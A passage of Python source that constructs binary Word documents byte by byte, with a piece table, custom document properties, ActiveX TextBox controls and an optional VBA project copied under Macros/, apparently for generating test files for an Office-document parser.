    body += struct.pack("<I", len(text) | 0x80000000)  # its size, compressed (8-bit) text
    body += struct.pack("<II", 0, 0) + text  # ExtraDataBlock: Size, then the value
    body += b"\0" * (-len(body) % 4)
    return b"\x00\x02" + struct.pack("<H", len(body)) + body + b"\x00\x02\x00\x00"


def custom_property_set(properties: dict[str, str]) -> bytes:
    """A `\x05DocumentSummaryInformation` stream whose second section holds `properties`
    as custom string properties ([MS-OLEPS]: code page 1252, a dictionary, VT_LPSTR)."""
    import struct

    def padded(data: bytes) -> bytes:
        return data + b"\0" * (-len(data) % 4)

    codepage = struct.pack("<HHH", 2, 0, 1252) + b"\0\0"  # VT_I2
    dictionary = struct.pack("<I", len(properties))
    values = []
    for pid, (name, value) in enumerate(properties.items(), start=2):
        encoded = name.encode("cp1252") + b"\0"
        dictionary += struct.pack("<II", pid, len(encoded)) + encoded
        text = value.encode("cp1252") + b"\0"
        values.append(padded(struct.pack("<II", 0x1E, len(text)) + text))
    blobs = [padded(dictionary), codepage, *values]
    head = 8 + 8 * len(blobs)
    table, body = b"", b""
    for pid, blob in zip([0, 1, *range(2, 2 + len(values))], blobs, strict=True):
        table += struct.pack("<II", pid, head + len(body))
        body += blob
    custom = struct.pack("<II", head + len(body), len(blobs)) + table + body
    empty = struct.pack("<II", 8, 0)
    summary_id = bytes.fromhex("02d5cdd59c2e1b10939708002b2cf9ae")
    custom_id = bytes.fromhex("05d5cdd59c2e1b10939708002b2cf9ae")
    header = struct.pack("<HHI", 0xFFFE, 0, 0) + b"\0" * 16 + struct.pack("<I", 2)
    first = len(header) + 40
    header += summary_id + struct.pack("<I", first)
    header += custom_id + struct.pack("<I", first + len(empty))
    return header + empty + custom


def build_doc(
    vba_project: bytes | None,
    text: str,
    controls: dict[str, str] | None = None,
    properties: dict[str, str] | None = None,
) -> bytes:
    """A binary Word document: `text` (cp1252) as its body, read through the piece table,
    and, when given, the VBA project's streams under `Macros/` as Word stores them and
    ActiveX TextBoxes (`name -> value`) placed on the page (`ObjectPool/_<id>/`)."""
    import struct

    import olefile  # type: ignore[import-untyped, unused-ignore]

    from .msg_writer import write_ole

    body = text.encode("cp1252")
    offset = 0x800
    word = _word_fib(len(body), offset).ljust(offset, b"\0") + body
    clx = b"\x02" + struct.pack("<I", 16) + struct.pack("<ii", 0, len(body))
    clx += struct.pack("<HIH", 0, (offset * 2) | 0x40000000, 0)
    entries: list[tuple[list[str], bytes | None]] = [
        (["WordDocument"], word),
        (["1Table"], clx),
    ]
    if properties:
        summary = custom_property_set(properties)
        entries.append((["\x05DocumentSummaryInformation"], summary))
    if controls:
        entries.append((["ObjectPool"], None))
        for number, (name, value) in enumerate(controls.items(), start=1):
            storage = f"_{1594718760 + number}"
            entries.append((["ObjectPool", storage], None))
            ocx = (name + "\0").encode("utf-16-le")
            entries.append((["ObjectPool", storage, "\x03OCXNAME"], ocx))
            entries.append((["ObjectPool", storage, "contents"], morph_data(value)))
    if vba_project is not None:
        project = olefile.OleFileIO(vba_project)
        entries.append((["Macros"], None))
        for path in project.listdir(streams=False, storages=True):
            entries.append((["Macros", *path], None))
        for path in project.listdir(streams=True, storages=False):
            entries.append((["Macros", *path], project.openstream(path).read()))
    return write_ole(entries)
